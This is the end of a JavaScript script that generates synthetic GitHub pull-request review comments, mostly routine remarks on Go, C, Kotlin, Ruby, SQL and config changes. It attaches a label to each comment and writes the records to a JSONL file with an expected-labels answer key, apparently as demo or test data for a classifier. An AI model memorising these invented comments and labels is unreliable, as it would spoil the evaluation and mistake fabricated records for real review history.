c('no', 'dash-api', `Is ¬ApiError¬ exported? The components will want to ¬instanceof¬ it.`, { at: 'new ApiError' });
c('no', 'dash-api', `I think ¬credentials: 'include'¬ is only needed for the cross-origin dev setup, same-origin is the default behaviour in prod.`, { at: 'credentials: \'include\'' });
c('no', 'ts', `Prefer ¬interface¬ over ¬type¬ for props, per the style guide.`);
c('no', 'web', `This component re-renders on every keystroke of the parent form. ¬React.memo¬?`);
c('no', 'dash-chart', `
¬¬¬suggestion
  const scale = max > 0 ? height / max : 0;
¬¬¬`, { at: 'const scale' });
c('no', 'dash-chart', `Should the polyline have ¬vector-effect="non-scaling-stroke"¬? Lines get thick when the svg scales.`, { at: 'polyline' });
// Go
c('no', 'edge-config', `Wrap with ¬%w¬ so callers can ¬errors.Is¬ it — oh, you already did below, never mind.`, { at: 'read config' });
c('no', 'edge-config', `nit: ¬ioutil¬ is deprecated, thanks for switching to ¬os.ReadFile¬.`, { at: 'os.ReadFile' });
c('no', 'edge-router', `Could the RLock section be a method on the router? We take the same lock in three places now.`, { at: 'rt.mu.RUnlock' });
c('no', 'edge-router', `¬http.StatusBadGateway¬ for "no route" feels wrong; 404 or 421 (misdirected) maybe?`, { at: 'StatusBadGateway' });
c('no', 'edge-frame', `Please add a table-driven test for the short-buffer cases.`, { at: 'return Frame{}, ErrShortBuffer' });
c('no', 'edge-router', `¬time.Since(start)¬ after ¬ServeHTTP¬ measures until the handler returns, not until the body is flushed. Fine for now, just so we know what the metric means.`, { at: 'time.Since' });
c('no', 'edge-hook', `Does the hook need a context with a timeout? A hanging hook blocks the reload loop.`, { at: 'cmd.Run' });
c('no', 'edge-tls', `IdleConnTimeout of 90s matches the default, we could drop the line.`, { at: 'IdleConnTimeout' });
c('no', 'edge-hook', `Receiver name: the rest of the file uses ¬rt¬, this one uses ¬r¬.`, { at: 'func (r *Runner)' });
c('no', 'edge-frame', `Can ¬headerLen¬ be a typed constant so the conversion isn't needed?`, { at: 'uint32(headerLen)' });
c('no', 'go', `This changes the exported ¬Frame¬ API. Do we need to bump the module's major version or is nothing external using it?`);
// C / C++
c('no', 'codec-cpp', `The ¬explicit¬ is a good call.`, { at: 'explicit' });
c('no', 'codec-cpp', `Rule of five: with copy deleted, do we want move construction? Returning an ¬Image¬ from a factory function won't compile now.`, { at: 'operator=' });
c('no', 'codec-alloc', `Please keep the opening brace on the same line as the function signature in the C files, like the rest of the codebase. (Or run clang-format, the config is in the root.)`, { at: '{' });
c('no', 'codec-memcpy', `¬be32¬ returns ¬uint32_t¬ but ¬width¬ is ¬int¬. Can we make the struct fields unsigned while we're at it?`, { at: 'out->width' });
c('no', 'codec-cpp', `Does ¬tc_image_free¬ handle NULL? If not the destructor will crash after the throw path... actually no, the destructor doesn't run if the constructor throws. Ignore me.`, { at: 'tc_image_free' });
c('no', 'codec-memcpy', `Missing a test image for this path in ¬tests/data¬.`, { at: 'return TC_OK' });
// Kotlin
c('no', 'notes-vm', `Good riddance, ¬GlobalScope¬ 👋`, { at: 'viewModelScope' });
c('no', 'notes-vm', `Expose ¬notes¬ as ¬asStateFlow()¬ so callers can't cast it back to the mutable one.`, { at: 'val notes: StateFlow' });
c('no', 'notes-vm', `Sorting here on every refresh is fine for now, but the DAO could return them ordered.`, { at: 'sortedByDescending' });
c('no', 'notes-webview', `Can we use ¬view.findViewById<WebView>¬ via view binding instead? The rest of the fragment uses binding.`, { at: 'findViewById' });
c('no', 'notes-prefs', `The ¬edit { }¬ KTX extension applies asynchronously; is that OK for the token? If the app is killed right after login we lose it.`, { at: 'prefs.edit' });
c('no', 'notes-vm', `nit: ¬_notes¬ → ¬mutableNotes¬? We don't use the underscore convention in this module.`, { at: 'private val _notes' });
// Ruby
c('no', 'shop-order', `¬sum('price * quantity')¬ does it in SQL now, nice. Note it ignores unsaved line items, which the old version counted.`, { at: 'line_items.sum' });
c('no', 'shop-order', `Can we name the scope ¬last_30_days¬? ¬recent¬ means different things in different places.`, { at: 'scope :recent' });
c('no', 'shop-spec', `Let's use ¬let¬ for the order in the spec, we'll need it for the other examples too.`, { at: 'order = create' });
c('no', 'shop-order', `Rubocop will complain about the multi-line lambda, but I'm fine with it.`, { at: 'scope :recent' });
c('no', 'shop-permit', `¬status: :unprocessable_entity¬ 👍 Turbo needs that.`, { at: 'unprocessable_entity' });
// Config
c('no', 'infra-docker', `Why ¬npm install¬ instead of ¬npm ci¬? We want the lockfile to be respected in the image.`, { at: 'npm install' });
c('no', 'infra-docker', `The full ¬node:20¬ image is ~1 GB, the alpine variant was ~180 MB. Any reason to switch?`, { at: 'FROM node:20' });
c('no', 'infra-k8s', `Setting the memory limit equal to the request is good. Should we do the same for CPU or leave CPU unlimited?`, { at: 'limits:' });
c('no', 'infra-k8s', `Please bump the image tag in the staging overlay too, otherwise staging keeps running 1.41.`, { at: 'api:1.42.0' });
c('no', 'infra-ci', `Coverage artifact is nice. Maybe add ¬retention-days: 7¬ so they don't pile up.`, { at: 'name: coverage' });
c('no', 'infra-ci', `¬cache: npm¬ 🎉 this should cut a minute off each run.`, { at: 'cache: npm' });
c('no', 'infra-ci', `Do we still need Node 18 in the matrix for the library build? Consumers are on 20 now.`, { at: 'node-version: 20' });
// SQL
c('no', 'sql-index', `This UPDATE touches every row in ¬orders¬ in one transaction. On prod that's ~40M rows; can we batch it or do it in a separate backfill job?`, { at: 'UPDATE orders' });
c('no', 'sql-index', `Create the index ¬CONCURRENTLY¬ so the table isn't locked during the deploy (needs to be outside a transaction though).`, { at: 'CREATE INDEX' });
c('no', 'sql-view', `¬count(*) AS payments¬: the column name shadows the table name, maybe ¬payment_count¬?`, { at: 'count(*)' });
c('no', 'sql-view', `Does the dashboard handle the extra ¬currency¬ column? It used to assume one row per month.`, { at: 'currency,' });
c('no', 'sql-index', `VARCHAR(64) enough for the external refs? The partner API docs say up to 100.`, { at: 'VARCHAR(64)' });
c('no', 'sql-index', `Please add the down migration too, we still run them in the test environment.`, { at: 'ALTER TABLE' });
c('no', 'idgw-csrf', `Please keep one chained call per line, it makes these diffs easier to read.`, { at: '.formLogin' });
c('no', 'codec-memcpy', `¬be16¬ isn't declared in this file. Is it in ¬bytes.h¬? Then the include is missing.`, { at: 'be16' });
c('no', 'notes-prefs', `Can ¬FILE¬ and ¬KEY_REFRESH¬ go into a companion object? They are top-level right now.`, { at: 'KEY_REFRESH' });
c('no', 'shop-permit', `Since ¬user_params¬ is only used by ¬update¬ I'd inline it, but the other controllers keep private helpers like this, so either is fine.`, { at: 'def user_params' });
c('no', 'sql-grant', `Other roles in this schema are named after the team, e.g. ¬analytics_team¬. Should this be ¬bi_team¬ for consistency?`, { at: 'CREATE ROLE' });
c('no', 'mlb-train', `Can we log the learning rate per epoch too? Handy when comparing runs.`, { at: 'scheduler.step' });
c('no', 'dash-hook', `The return type changed from ¬Widget[]¬ to ¬Widget[] | undefined¬; the board page doesn't handle undefined yet.`, { at: 'useState<Widget[] | undefined>' });
c('no', 'dash-api', `Should ¬ApiError¬ include the request path? It helps a lot when reading error reports.`, { at: 'new ApiError' });
c('no', 'upl-jwt', `(unrelated) the header lookup could be ¬req.get('authorization')¬.`, { at: 'req.headers.authorization' });
c('no', 'upl-multer', `Is ¬uuid¬ already a dependency? I don't see package.json in this diff.`, { at: "require('uuid')" });
c('no', 'edge-config', `Nit: ¬cfg¬ could be validated right after parsing (required fields, port range), then the rest of the code can assume it's sane.`, { at: 'return &cfg' });
c('no', 'infra-k8s', `Do the nodes have enough headroom for doubling the requests? Last time the autoscaler took a while to catch up.`, { at: 'cpu: 500m' });
c('no', 'shop-order', `¬30.days.ago¬ is evaluated each time the scope is called since it's inside the lambda, good.`, { at: 'scope :recent' });
c('no', 'notes-vm', `Maybe ¬refreshNotes()¬? ¬refresh¬ on a ViewModel is a bit ambiguous.`, { at: 'fun refresh' });
c('no', 'idx-traversal', `The content type could be more specific, snapshots are always zip files.`, { at: 'setContentType' });
c('no', 'ledger-test', `Test name is much better now 👍`, { at: 'listsTransfersOfOwnAccount' });

// Language-neutral
c('no', 'any', `LGTM`);
c('no', 'any', `LGTM 👍`);
c('no', 'any', `LGTM`);
c('no', 'any', `lgtm, one nit below`);
c('no', 'any', `nit`);
c('no', 'any', `Nice!`);
c('no', 'any', `Why?`);
c('no', 'any', `typo`);
c('no', 'any', `+1`);
c('no', 'any', `Same here.`);
c('no', 'any', `Same as above.`);
c('no', 'any', `Is this still needed?`);
c('no', 'mlb-train', `Leftover debug output?`, { at: 'print(f"epoch' });
c('no', 'any', `Unrelated change?`);
c('no', 'any', `Can we add a test for this?`);
c('no', 'any', `Please add a short comment explaining why this is needed. It won't be obvious in six months.`);
c('no', 'any', `Could you split this PR? The refactoring and the behaviour change are hard to review together.`);
c('no', 'any', `I think this deserves a unit test for the edge case where the input is empty.`);
c('no', 'any', `nit: extra blank line`);
c('no', 'any', `nit: missing newline at end of file`);
c('no', 'any', `Can you rename this to something more descriptive?`);
c('no', 'any', `Does this change the behaviour for existing users? If yes, please mention it in the changelog.`);
c('no', 'any', `I'm fine with this, but let's wait for @mkowalski since they own this module.`);
c('no', 'any', `Not a blocker, but we could simplify this quite a bit by returning early.`);
c('no', 'any', `Good catch!`);
c('no', 'any', `Oh nice, I didn't know about this API.`);
c('no', 'mlb-utils', `What's the reason for changing this default?`, { at: 'def chunks' });
c('no', 'any', `This duplicates the logic in the other branch of the if. Could both share a helper?`);
c('no', 'any', `TODO without an issue link; can you create one and reference it?`);
c('no', 'any', `Please remove the commented-out block further down too.`);
c('no', 'any', `This will conflict with #318, which touches the same lines. Whoever merges second rebases, fine.`);
c('no', 'any', `I'd keep the old name to avoid churn in the call sites. Up to you.`);
c('no', 'any', `Is there a benchmark for this? I'm curious how much it actually saves.`);
c('no', 'any', `Formatting looks off here, did the formatter run?`);
c('no', 'any', `Shouldn't this be configurable rather than hard-coded?`);
c('no', 'any', `Let's not change this in this PR; it's used by the export job which has its own release cycle.`);
c('no', 'any', `Can you explain what this does? I read it three times and I'm still not sure.`);
c('no', 'any', `
A few small things:
- the variable name shadows the outer one
- the log message has a typo ("recieved")
- this branch is never hit in the tests`);
c('no', 'any', `
Two options here:

1. keep the current signature and add an overload
2. change all callers (there are only three)

I'd slightly prefer 2, the overload will just confuse people later.`);
c('no', 'any', `
> we could also cache this

I'd wait until it shows up in a profile. The lookup is a hash map, it's cheap.`);
c('no', 'any', `See the [contributing guide](https://example.org/docs/contributing#tests) about naming tests: ¬methodName_condition_expectedResult¬.`);
c('no', 'any', `Minor, but the error message should say which value was wrong, otherwise the log line is useless.`);
c('no', 'mlb-utils', `I think this is off by one: the loop runs ¬n + 1¬ times.`, { at: 'for i in range' });
c('no', 'any', `This can be written as a single expression, no need for the temporary.`);
c('no', 'java', `Please keep the public API backwards compatible; deprecate first, remove in the next major.`);
c('no', 'any', `Do we have metrics on how often this path is taken? If it's rare, the extra complexity might not be worth it.`);
c('no', 'any', `Thanks for cleaning this up, much easier to follow now.`);
c('no', 'any', `Could we move this to the constants file?`);
c('no', 'any', `I'm not sure about the name. "handler" is very generic in a file that already has four handlers.`);
c('no', 'feed-parse', `If we catch here at all, I'd catch the parse error type only and let everything else propagate.`, { at: 'except Exception' });
c('no', 'any', `Out of curiosity: why not reuse the existing helper?`);
c('no', 'dash-api', `Wouldn't this be cleaner as a switch?`, { at: 'res.status === 204' });
c('no', 'idx-analyzer', `Small perf thing: this allocates a new list on every call, and it's on the hot path.`, { at: 'new ArrayList' });
c('no', 'any', `The comment above no longer matches what the code does.`);
c('no', 'idgw-token-log', `Can we log at debug instead of info? This runs for every request.`, { at: 'log.info' });
c('no', 'any', `Is the ordering guaranteed here? The test assumes it is.`);
c('no', 'any', `Please squash the fixup commits before merging.`);
c('no', 'any', `These two lines could go into the setup method, every test repeats them.`);
c('no', 'idgw-webhook', `Why is this a warning and not an error?`, { at: 'log.warn' });
c('no', 'any', `This is a behaviour change for callers that pass null. Intended?`);
c('no', 'upl-multer', `Hmm, this looks like it would fail on Windows paths. Do we care?`, { at: 'destination' });
c('no', 'mlb-shell', `¬capture_output=True¬ plus ¬text=True¬ would save the ¬.decode()¬ below.`, { at: 'capture_output' });
c('no', 'any', `Let's document the new option in the README as well.`);
c('no', 'any', `Note to self: revisit after the migration is done.`);
c('no', 'any', `I have a slight preference for the previous version, but not enough to block on it.`);
c('no', 'any', `
This works, but I think the abstraction is in the wrong place. Right now every caller has to know that it must call ¬init¬ before ¬run¬, and two of the four call sites in this PR don't.

What if the constructor did the initialization? Then the object can't exist in a half-ready state, and we can drop the ¬initialized¬ flag together with the three checks for it. It also makes the tests shorter, since they currently spend most of their lines on setup.

Happy to pair on it if you want.`);
c('no', 'any', `
I ran this locally against last week's data dump:

| | before | after |
|---|---|---|
| wall time | 4m12s | 1m03s |
| peak memory | 2.1 GB | 2.3 GB |

So a bit more memory but much faster. 👍`);
c('no', 'any', `Shouldn't the default be ¬false¬? Everything else in this config is opt-in.`);
c('no', 'any', `Why was this test removed?`);
c('no', 'any', `Reverting this hunk would make the diff a lot smaller; it's only whitespace.`);
c('no', 'any', `Can you link the issue in the PR description?`);
c('no', 'any', `Let's not add a dependency for this, it's ten lines.`);

// Replies in threads. options.fits: what the parent comment must say for the reply to make sense.
const REQUEST = /\b(please|can we|could (we|you)|should|nit|maybe|prefer|let's|use|instead|add|missing)\b/i;
r('no', '*', `Done.`, { fits: REQUEST });
r('no', '*', `Done`, { fits: REQUEST });
r('no', '*', `Done.`, { fits: REQUEST });
r('no', '*', `Done.`, { fits: REQUEST });
r('no', '*', `done`, { fits: REQUEST });
r('no', '*', `Fixed.`, { fits: /\b(NPE|break|wrong|raise|swallows|dropped|off by one|typo|never)\b/i });
r('no', '*', `Fixed, thanks!`, { fits: /\b(will|break|wrong|raise|swallows|never|typo)\b/i });
r('no', '*', `Good point, changed.`, { fits: REQUEST });
r('no', '*', `Agreed, will do.`, { fits: REQUEST });
r('no', '*', `Will do in a follow-up PR.`, { fits: /\b(could|would|maybe|can we|should)\b/i });
r('no', '*', `Thanks, updated.`, { fits: REQUEST });
r('no', '*', `Yes, it's needed: the old path is still used by the nightly job.`, { fits: /still needed|is this needed|used anywhere/i });
r('no', '*', `I kept it on purpose, see the discussion in the issue.`, { fits: /\bwhy\b|unrelated|reason/i });
r('no', '*', `Not sure I follow, can you elaborate?`, { fits: /abstraction|semantics|same treatment|means/i });
r('no', '*', `Ah right, I missed that. Changed.`, { fits: /\b(missing|forgot|doesn't|don't|isn't|never)\b/i });
r('no', '*', `Renamed.`, { fits: /\bname\b|rename|→/i });
r('no', '*', `Added a test.`, { fits: /add (a )?test|test for|unit test|a test with/i });
r('no', '*', `Removed.`, { fits: /unused|remove|leftover|drop/i });
r('no', '*', `Hmm, I'd rather keep it as is for now, it matches the other module.`, { fits: /\b(could|would|maybe|prefer)\b/i });
r('no', '*', `👍`, { fits: REQUEST });
r('no', '*', `Makes sense.`, { fits: REQUEST });
r('no', '*', `Resolved in the latest commit.`, { fits: REQUEST });
r('no', '*', `You're right, that was leftover from debugging.`, { fits: /leftover|debug output|still needed/i });
r('no', '*', `Moved it.`, { fits: /\bmove|constants|setup method|companion/i });
r('no', '*', `Yes, intended. The old behaviour was a bug.`, { fits: /intended\?|behaviou?r change for|on purpose\?|changing this default/i });
r('no', '*', `Let's discuss this in standup, it's a bigger question than this PR.`, { fits: /abstraction|major version|public API|backwards compatible/i });
r('no', '*', `I tried that first but it made the tests much slower, so I went back to this.`, { fits: /could we use|would .* work|why not|we have/i });
r('no', '*', `Good question. I measured it and it's about 5% faster, so I'd keep it.`, { fits: /benchmark|slow|perf|faster|round trip/i });
r('no', '*', `Yep, oversight. Thanks for catching it.`, { fits: /\b(will|never|missing|NPE|break|wrong)\b/i });
r('no', '*', `Created an issue for it and linked it in the TODO.`, { fits: /\bTODO\b|follow-up/ });
r('no', '*', `Sure.`, { fits: REQUEST });
r('no', '*', `Not in this PR, but agreed in principle.`, { fits: /\b(could|would|maybe|should)\b/i });
r('no', '*', `ok`, { fits: REQUEST });
r('no', '*', `Fair enough.`, { fits: /\b(fine|up to you|not a blocker|either way)\b/i });
r('no', '*', `Reverted that part.`, { fits: /\bwhy\b|unrelated|revert|rather not|keep the old/i });
r('no', '*', `It's used by the admin CLI, which is why it's public.`, { fits: /Why is this `public`/ });
r('language', '*', `Erledigt, danke!`, { fits: /[äöüß]/ });
r('language', '*', `好的，已修改。`, { fits: /[\u4e00-\u9fff]/ });
r('no', '*', `Thanks for the thorough review!`, { fits: /\n- |\n1\. |abstraction/ });

// ---------------------------------------------------------------------------------------------
// Arrangement: comments onto hunks, hunks into pull requests, people, times, ids.
// ---------------------------------------------------------------------------------------------
const PEOPLE = [
  'akira-tanabe', 'bfischer', 'carla-m', 'dnyberg', 'eoin-walsh', 'fatima-zr', 'gpetrov', 'hannah-lee',
  'ivo-kr', 'jmartinez', 'kpoulsen', 'lucia-dev', 'mkowalski', 'nadia-h', 'oscar-t', 'priya-s', 'quentin-b',
  'rmoreau', 'svensson-a', 'tvoss', 'uma-raman', 'wliang',
];
const LANG_OF_EXT = { java: 'java', py: 'py', ts: 'ts', tsx: 'ts', js: 'js', go: 'go', c: 'c', hpp: 'c', kt: 'kt', rb: 'rb', yml: 'ops', yaml: 'ops', sql: 'sql' };
function languageOf(file) {
  if (path.basename(file) === 'Dockerfile') return 'ops';
  return LANG_OF_EXT[path.extname(file).slice(1)] ?? 'other';
}
// 'any' means any source file: general remarks about methods and tests read oddly on YAML or SQL.
const fitsTarget = (lang, target) =>
  (target === 'any' && lang !== 'ops' && lang !== 'sql') || target === lang || (target === 'web' && (lang === 'ts' || lang === 'js'));
const isRight = (line) => line[0] === '+' || line[0] === ' ';

function lineIndexOf(h, at) {
  const i = h.lines.findIndex((l) => isRight(l) && l.includes(at));
  if (i < 0) throw new Error(`hunk ${h.key}: no added or context line contains ${JSON.stringify(at)}`);
  return i;
}

/** New-file line number of hunk line i (which must be on the right side). */
function newLineNumber(h, i) {
  let n = h.newStart;
  for (let k = 0; k < i; k++) if (isRight(h.lines[k])) n++;
  return n;
}

function diffHunkUpTo(h, i) {
  // GitHub keeps the header of the whole hunk and cuts the lines after the commented one.
  const oldCount = h.lines.filter((l) => l[0] !== '+').length;
  const newCount = h.lines.filter((l) => l[0] !== '-').length;
  const oldStart = oldCount === 0 ? h.oldStart - 1 : h.oldStart;
  const header = `@@ -${oldStart},${oldCount} +${h.newStart},${newCount} @@${h.context ? ' ' + h.context : ''}`;
  return [header, ...h.lines.slice(0, i + 1)].join('\n');
}

function assignHunks() {
  const byKey = new Map(HUNKS.map((h) => [h.key, { ...h, lang: languageOf(h.path), load: 0 }]));
  const hunks = [...byKey.values()];
  const named = new Map();
  const topLevel = [];
  // Comments written for a specific hunk first, then language-specific ones, then the rest.
  const order = (cm) => (cm.parent ? 3 : byKey.has(cm.target) ? 0 : cm.target === 'any' ? 2 : 1);
  const sorted = COMMENTS.map((cm, i) => ({ ...cm, seq: i })).sort((a, b) => order(a) - order(b) || a.seq - b.seq);
  for (const cm of sorted) {
    if (cm.parent) continue;
    let h = byKey.get(cm.target);
    if (!h) {
      const fits = hunks.filter((x) => fitsTarget(x.lang, cm.target));
      if (fits.length === 0) throw new Error(`no hunk for target ${cm.target}`);
      const least = Math.min(...fits.map((x) => x.load));
      h = pick(fits.filter((x) => x.load <= least + 1));
    }
    h.load++;
    h.labels = (h.labels ?? '') + cm.label[0];
    let index;
    if (cm.at) index = lineIndexOf(h, cm.at);
    else {
      const candidates = h.lines.map((l, i) => i).filter((i) => i >= 2 && isRight(h.lines[i]));
      index = pick(candidates);
    }
    cm.hunk = h;
    cm.index = index;
    topLevel.push(cm);
    if (cm.key) named.set(cm.key, cm);
  }
  const replies = [];
  const taken = new Set();
  for (const cm of sorted) {
    if (!cm.parent) continue;
    let parent = named.get(cm.parent);
    if (cm.parent === '*') {
      const wantLanguage = cm.label === 'language';
      // Praise and one-word remarks get no answer; an answer must fit what the comment asked.
      const options = topLevel.filter((p) => !taken.has(p) && !p.by && p.text.length > 15 && !p.key &&
        (wantLanguage ? p.label === 'language' : p.label === 'no') &&
        !/^(Nice|Good|Thanks|\+1|LGTM)|👍|🎉|good call|good catch|Good riddance/i.test(p.text) &&
        (!cm.fits || cm.fits.test(p.text)));
      parent = pick(options);
    }
    if (!parent) throw new Error(`reply without parent: ${cm.text}`);
    taken.add(parent);
    cm.replyTo = parent;
    cm.hunk = parent.hunk;
    cm.index = parent.index;
    replies.push(cm);
  }
  if (process.env.DEMO_DEBUG) for (const h of hunks) console.error(h.key.padEnd(24), h.load, h.labels);
  return { topLevel, replies };
}

const DAY = 24 * 3600 * 1000;
const isoSeconds = (ms) => new Date(ms).toISOString().replace(/\.\d{3}Z$/, 'Z');
const botLogin = (login) => login.endsWith('[bot]');

function build() {
  const { topLevel, replies } = assignHunks();
  // Pull requests: the hunks that share repo and number, with an author, reviewers and commits.
  const pulls = new Map();
  for (const cm of topLevel) {
    const id = `${cm.hunk.repo}#${cm.hunk.pull}`;
    if (!pulls.has(id)) {
      const author = pick(PEOPLE);
      const reviewers = [pick(PEOPLE), pick(PEOPLE), pick(PEOPLE)].filter((p) => p !== author);
      const opened = Date.UTC(2023, 1, 1) + Math.floor(rand() * 660) * DAY + Math.floor(rand() * 10 * 3600) * 1000 + 7 * 3600 * 1000;
      const commits = [0, 1, 2, 3].map((k) => fakeSha(`${id}/${k}`));
      pulls.set(id, { id, author, reviewers: reviewers.length ? reviewers : [PEOPLE[0]], opened, commits });
    }
    cm.pull = pulls.get(id);
  }
  for (const cm of topLevel) {
    const p = cm.pull;
    cm.login = cm.by ?? pick(p.reviewers);
    cm.at = p.opened + Math.floor(rand() * 3 * DAY);
    const multiLineStart = cm.index - 1 - Math.floor(rand() * 3);
    if (!cm.by && rand() < 0.15 && multiLineStart >= 0 &&
        cm.hunk.lines.slice(multiLineStart, cm.index).every(isRight)) {
      cm.startIndex = multiLineStart;
    }
  }
  for (const cm of replies) {
    cm.pull = cm.replyTo.pull;
    cm.login = cm.by ?? (cm.replyTo.login === cm.pull.author ? pick(cm.pull.reviewers) : cm.pull.author);
    cm.at = cm.replyTo.at + 20 * 60 * 1000 + Math.floor(rand() * 2 * DAY);
  }
  const all = [...topLevel, ...replies].sort((a, b) => a.at - b.at || a.seq - b.seq);
  all.forEach((cm, i) => { cm.id = FIRST_ID + i; });
  // One review id per person, pull request and day, as when comments are submitted as a review.
  const reviewIds = new Map();
  const records = [];
  for (const cm of all) {
    const { hunk: h, pull: p } = cm;
    const [owner, repo] = h.repo.split('/');
    const reviewKey = `${p.id}/${cm.login}/${Math.floor(cm.at / DAY)}`;
    if (!reviewIds.has(reviewKey)) reviewIds.set(reviewKey, 1830000001 + reviewIds.size * 7);
    const round = Math.min(3, Math.floor(((cm.at - p.opened) / DAY) * 1.2));
    const line = newLineNumber(h, cm.index);
    const startLine = cm.startIndex !== undefined ? newLineNumber(h, cm.startIndex) : null;
    const isBot = botLogin(cm.login);
    let body = cm.text;
    if (body.includes('\n') && !isBot && rand() < 0.25) body = body.replace(/\n/g, '\r\n'); // typed in a browser
    // A subset of the REST fields: what identifies the comment, places it in the diff and says who
    // wrote it when (the API's _links, reactions, node ids and positions are left out).
    records.push({
      pull_request_review_id: reviewIds.get(reviewKey),
      id: cm.id,
      diff_hunk: diffHunkUpTo(h, cm.index),
      path: h.path,
      commit_id: p.commits[3],
      original_commit_id: p.commits[round],
      user: { login: cm.login, type: isBot ? 'Bot' : 'User' },
      body,
      created_at: isoSeconds(cm.at),
      html_url: `https://github.com/${owner}/${repo}/pull/${h.pull}#discussion_r${cm.id}`,
      pull_request_url: `https://api.github.com/repos/${owner}/${repo}/pulls/${h.pull}`,
      author_association: isBot ? 'NONE' : cm.login === p.author ? 'CONTRIBUTOR' : 'MEMBER',
      ...(cm.replyTo ? { in_reply_to_id: cm.replyTo.id } : {}),
      ...(startLine === null ? {} : { start_line: startLine, original_start_line: startLine, start_side: 'RIGHT' }),
      line,
      original_line: line,
      side: 'RIGHT',
      synthetic: true,
      _label: cm.label,
    });
  }
  // Grouped like a crawl: repository, pull request, then comment id.
  records.sort((a, b) => a.pull_request_url.localeCompare(b.pull_request_url, 'en') || a.id - b.id);
  const labels = {};
  for (const rec of [...records].sort((a, b) => a.id - b.id)) labels[String(rec.id)] = rec._label;
  const jsonl = records.map(({ _label, ...rec }) => JSON.stringify(rec)).join('\n') + '\n';
  return { jsonl, labels: JSON.stringify(labels, null, 1) + '\n', records };
}

function main() {
  const { jsonl, labels, records } = build();
  const reviewsFile = path.join(here, 'reviews.jsonl');
  const labelsFile = path.join(here, 'expected-labels.json');
  if (process.argv.includes('--check')) {
    const same = (file, text) => { try { return readFileSync(file, 'utf8') === text; } catch { return false; } };
    if (!same(reviewsFile, jsonl) || !same(labelsFile, labels)) {
      console.error('demo data is out of date: run node demo/make-demo-data.mjs');
      process.exit(1);
    }
    console.log('demo data is up to date');
    return;
  }
  writeFileSync(reviewsFile, jsonl);
  writeFileSync(labelsFile, labels);
  const counts = {};
  for (const rec of records) counts[rec._label] = (counts[rec._label] ?? 0) + 1;
  console.log(`wrote ${records.length} comments (${Buffer.byteLength(jsonl)} bytes):`, counts);
}

main();
